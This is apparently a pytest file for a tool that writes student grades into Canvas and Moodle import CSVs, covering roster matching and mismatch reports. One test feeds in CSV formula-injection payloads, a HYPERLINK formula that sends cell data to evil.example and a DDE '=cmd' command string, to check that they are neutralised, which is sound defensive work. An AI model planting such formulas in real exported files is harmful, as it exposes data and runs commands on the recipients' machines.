"""Grades to the LMS: Canvas's gradebook import CSV and Moodle's grade import CSV from grades_wide.csv and a roster,
with a report of students on one side only, and no cell a spreadsheet would run as a formula."""

import csv

import pytest

from legpain import __main__ as cli
from legpain.classroom.lms import LmsError, neutralise, write_lms_files

WIDE_HEADER = ["student", "file", "status", "q0_1", "q0_2", "auto_points", "manual_points", "total", "max_points",
               "public_score", "seconds"]


def _grades(tmp_path, rows):
    path = tmp_path / "grades_wide.csv"
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(WIDE_HEADER)
        for student, status, total in rows:
            w.writerow([student, f"{student}.ipynb", status, "", "", "", "", total, 6, "", ""])
    return path


def _canvas_roster(tmp_path, rows):
    """A roster as Canvas exports its gradebook: a 'Points Possible' row under the header."""
    path = tmp_path / "roster.csv"
    with open(path, "w", newline="", encoding="utf-8-sig") as fh:
        w = csv.writer(fh)
        w.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Quiz 1 (101)"])
        w.writerow(["    Points Possible", "", "", "", "", "10"])
        for r in rows:
            w.writerow(list(r) + [""])
    return path


def _read(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_neutralise():
    """Text starting with = + - @ tab or CR gets a leading apostrophe; everything else is unchanged."""
    for bad in ("=HYPERLINK(\"http://x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(bad) == "'" + bad
    for ok in ("Ana Lima", "4.5", "", "a=b", "O'Brien"):
        assert neutralise(ok) == ok
    assert neutralise(None) == ""


def test_canvas_and_moodle_files_and_the_report(tmp_path):
    """Graded students get their total; the report names who is on one side only and who has no grade yet."""
    grades = _grades(tmp_path, [("ana", "graded", "6"), ("ben", "graded", "1.5"),
                                ("cy", "not graded: empty folder: no notebook submitted", "0"),
                                ("dan", "graded; 1 answer(s) need manual grading", "4"),
                                ("stray", "graded", "3")])
    roster = _canvas_roster(tmp_path, [("Lima, Ana", "11", "S1", "ana", "A"), ("Berg, Ben", "12", "S2", "BEN", "A"),
                                       ("Cruz, Cy", "13", "S3", "cy", "B"), ("Diaz, Dan", "14", "S4", "dan", "B"),
                                       ("Eto, Eve", "15", "S5", "eve", "B")])
    rep = write_lms_files(grades, roster, "Exercise set 00", canvas=tmp_path / "canvas.csv",
                          moodle=tmp_path / "moodle.csv", assignment_id="4711")
    assert rep.key_column == "SIS Login ID"
    assert rep.written == ["ana", "ben"]  # matched case-insensitively (BEN)
    assert rep.not_on_roster == ["stray"]
    assert rep.no_grade_row == ["eve"]
    assert rep.not_graded == [("cy", "not graded: empty folder: no notebook submitted")]
    assert rep.pending == ["dan"]
    assert _read(tmp_path / "canvas.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Exercise set 00 (4711)"],
        ["Lima, Ana", "11", "S1", "ana", "A", "6"],
        ["Berg, Ben", "12", "S2", "BEN", "A", "1.5"],
    ]
    assert _read(tmp_path / "moodle.csv") == [["username", "Exercise set 00 (4711)"], ["ana", "6"], ["BEN", "1.5"]]
    text = "\n".join(rep.lines())
    assert "stray" in text and "eve" in text and "cy" in text and "dan" in text


def test_options_zero_for_ungraded_scale_and_incomplete(tmp_path):
    """--ungraded zero writes 0 for the not-submitted; --scale rescales; --include-incomplete writes pending totals."""
    grades = _grades(tmp_path, [("ana", "graded", "6"), ("cy", "not graded: empty folder", "0"),
                                ("dan", "graded; 1 answer(s) need manual grading", "3")])
    roster = _canvas_roster(tmp_path, [("Ana", "11", "", "ana", ""), ("Cy", "13", "", "cy", ""),
                                       ("Dan", "14", "", "dan", "")])
    rep = write_lms_files(grades, roster, "Set 00", canvas=tmp_path / "c.csv", scale=10, ungraded="zero",
                          include_incomplete=True)
    assert rep.written == ["ana", "cy", "dan"]
    assert [r[-1] for r in _read(tmp_path / "c.csv")[1:]] == ["10", "0", "5"]


def test_moodle_by_email_and_roster_matched_by_email(tmp_path):
    """A Moodle roster with e-mail addresses: the hub name matches the address or its part before the @."""
    grades = _grades(tmp_path, [("ana", "graded", "5"), ("ben@uni.edu", "graded", "2")])
    roster = tmp_path / "moodle-roster.csv"
    roster.write_text("First name,Last name,Email address\nAna,Lima,ana@uni.edu\nBen,Berg,Ben@uni.edu\n")
    rep = write_lms_files(grades, roster, "Set 00", moodle=tmp_path / "m.csv")
    assert rep.key_column == "Email address" and rep.written == ["ana", "ben@uni.edu"]
    assert _read(tmp_path / "m.csv") == [["email", "Set 00"], ["ana@uni.edu", "5"], ["Ben@uni.edu", "2"]]


def test_ambiguous_matches_are_reported_not_guessed(tmp_path):
    grades = _grades(tmp_path, [("ana", "graded", "5")])
    roster = tmp_path / "r.csv"
    roster.write_text("Student,email\nAna One,ana@a.edu\nAna Two,ana@b.edu\n")
    rep = write_lms_files(grades, roster, "Set", moodle=tmp_path / "m.csv")
    assert rep.written == [] and rep.ambiguous and rep.ambiguous[0][0] == "ana"


def test_formulas_in_names_and_ids_are_neutralised(tmp_path):
    """A student who names themselves '=HYPERLINK(...)' cannot plant a formula in the instructor's spreadsheet."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    grades = _grades(tmp_path, [("-mal", "graded", "2")])
    roster = tmp_path / "r.csv"
    with open(roster, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section"])
        w.writerow([evil, "@1", "+2", "-mal", "\tA"])
    write_lms_files(grades, roster, "=cmd|' /C calc'!A0", canvas=tmp_path / "c.csv", moodle=tmp_path / "m.csv")
    for name in ("c.csv", "m.csv"):
        for row in _read(tmp_path / name):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert _read(tmp_path / "c.csv")[1][0] == "'" + evil


def test_missing_key_column_is_an_error(tmp_path):
    grades = _grades(tmp_path, [("ana", "graded", "5")])
    roster = tmp_path / "r.csv"
    roster.write_text("Name,Group\nAna,1\n")
    with pytest.raises(LmsError, match="hub user names"):
        write_lms_files(grades, roster, "Set", canvas=tmp_path / "c.csv")
    with pytest.raises(LmsError, match="grades_wide"):
        write_lms_files(roster, roster, "Set", canvas=tmp_path / "c.csv")


def test_lms_command(tmp_path, capsys):
    grades = _grades(tmp_path, [("ana", "graded", "6"), ("stray", "graded", "1")])
    roster = _canvas_roster(tmp_path, [("Ana", "11", "S1", "ana", "A"), ("Eve", "15", "S5", "eve", "B")])
    code = cli.main(["lms", "--grades", str(grades), "--roster", str(roster), "--assignment-name", "Set 00",
                     "--canvas", str(tmp_path / "c.csv"), "--moodle", str(tmp_path / "m.csv"),
                     "--report", str(tmp_path / "rep.csv")])
    assert code == 0
    out = capsys.readouterr().out
    assert "1 grade(s) written" in out and "not on the roster" in out and "eve" in out
    assert {r[0]: r[1] for r in _read(tmp_path / "rep.csv")[1:]} == {"ana": "written", "stray": "not on the roster",
                                                                     "eve": "no grade"}
